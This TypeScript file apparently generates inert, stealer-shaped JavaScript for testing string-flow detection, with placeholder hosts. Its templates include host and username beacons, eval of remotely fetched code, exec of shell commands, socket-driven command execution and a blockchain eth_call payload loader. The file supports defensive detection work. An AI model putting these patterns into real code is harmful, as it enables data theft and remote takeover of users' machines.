/** Programs in the shape of stealers, for the strings flow into calls of modules; inert: guarded like the stand-ins, reserved hosts, nothing is read out or kept. */
import { GUARD, HEADER } from '../../test/reverse/standins/build/guard.ts';
import { Planter } from './plants.ts';
import type { Program } from './programs.ts';

type Shape = (p: Planter) => string;

const SHAPES: Readonly<Record<string, Shape>> = {
  report: (p) => `
const os = require('os'), axios = require('axios');
const me = { host: os.hostname(), user: os.userInfo().username, tag: ${p.next()} };
axios.post(${p.next()}, me, { headers: { 'x-build': ${p.next()} } }).then((r) => axios.get(${p.next()} + '?s=' + r.status)).catch(() => axios.get(${p.next()}));
setInterval(() => axios.post(${p.next()}, { at: Date.now() }), 45000);`,
  places: (p) => `
const fs = require('fs'), path = require('path'), os = require('os'), http = require('http');
const ids = [${p.next()}, ${p.next()}];
const roots = [${p.next()}, ${p.next()}];
let n = 0;
for (const root of roots) for (const id of ids) if (fs.existsSync(path.join(os.homedir(), root, id))) n++;
const request = http.request(${p.next()}, { method: 'POST' }, (reply) => { reply.on('data', () => {}); });
request.on('error', () => { http.get(${p.next()}); });
request.write(JSON.stringify({ n: n, k: ${p.next()} })); request.end();`,
  loader: (p) => `
const https = require('https'), { exec } = require('child_process');
function fetchText(url, done) { https.get(url, (reply) => { let t = ''; reply.on('data', (d) => (t += d)); reply.on('end', () => done(t)); }).on('error', () => done('')); }
fetchText(${p.next()}, (text) => { if (text.length > 4) eval(text); else fetchText(${p.next()}, (more) => eval(more)); });
if (process.platform === 'win32') exec('curl -o ' + ${p.next()}); else exec('sh ' + ${p.next()});
process.env.NODE_TAG = ${p.next()};`,
  sockets: (p) => `
const io = require('socket.io-client'), crypto = require('crypto'), os = require('os');
const key = ${p.next()};
const sign = crypto.createHmac('sha256', key).update(os.hostname()).digest('hex');
const link = io(${p.next()}, { extraHeaders: { sign: sign } });
link.on('connect', () => link.emit('hello', { id: ${p.next()}, at: os.platform() }));
link.on('run', (m) => require('child_process').exec(m.text));
link.on('go', () => { fetch(${p.next()}); });
setTimeout(() => fetch(${p.next()}, { method: 'POST', body: ${p.next()} }), 3000);`,
  chain: (p) => `
async function call(url, to) { const r = await fetch(url, { method: 'POST', body: JSON.stringify({ method: 'eth_call', params: [{ to: to }] }) }); return (await r.json()).result; }
(async () => {
  for (const url of [${p.next()}, ${p.next()}]) {
    try { const t = await call(url, ${p.next()}); new Function('require', Buffer.from(t.slice(2), 'hex').toString())(require); break; } catch (e) { await fetch(${p.next()} + '?e=' + e.message); }
  }
  require('fs').writeFileSync(${p.next()}, 'x');
})();`,
  classes: (p) => `
const axios = require('axios'), os = require('os'), fs = require('fs');
class Agent {
  constructor(base) { this.base = base; this.id = os.hostname() + '_' + ${p.next()}; }
  url(tail) { return this.base + tail; }
  async start() { try { const r = await axios.get(this.url(${p.next()}), { params: { id: this.id } }); if (r.data && r.data.cmd) await this.run(r.data.cmd); } catch (e) { await this.log(e); } }
  async log(e) { return axios.post(${p.next()}, { m: String(e) }); }
  async run(cmd) { return fs.promises.writeFile(${p.next()}, cmd); }
}
new Agent(${p.next()}).start();
fs.readdir(${p.next()}, () => {});`,
};

export const STEALER_NAMES = Object.keys(SHAPES);

export function stealer(name: string, seed: string): Program {
  const planter = new Planter(`stealer ${name} ${seed}`);
  const body = SHAPES[name]!(planter).trim();
  return { name, source: `/* ${HEADER} */\n${GUARD}\n${planter.helpers()}\n${body}\n`, plants: planter.plants };
}
